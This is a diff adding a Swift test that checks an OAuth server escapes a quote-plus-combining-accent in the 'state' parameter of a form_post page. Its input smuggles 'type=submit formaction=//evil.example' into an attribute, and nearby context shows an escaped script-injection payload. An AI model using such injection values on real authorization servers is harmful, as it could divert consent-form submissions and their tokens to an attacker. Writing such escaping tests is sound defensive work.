@@ -54,6 +54,18 @@ struct ResponseModeWireTests {
         #expect(page.answerBody.contains(#"value="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;""#))
     }
 
+    @Test("A quotation mark with an accent on it is one too, as browsers read it")
+    func accented() async {
+        let runner = await makeRunner().started()
+        let ask = makeMessage(
+            "GET",
+            (Lesson.authorize + "&response_mode=form_post")
+                .replacing("state={{state}}", with: "state=x%22%CC%81%20type=submit%20formaction=//evil.example")
+        )
+        let page = await runner.send(ask, Lesson.signIn, Lesson.seeConsent, Lesson.decide("deny"))[3]
+        #expect(page.answerBody.contains("value=\"x&quot;\u{301} type=submit formaction=//evil.example\""))
+    }
+
     @Test("Rule 24: in a profile for old apps the token stands in the fragment, and the note warns")
     func implicitGrant() async {
         let runner = await makeRunner().started("legacy")
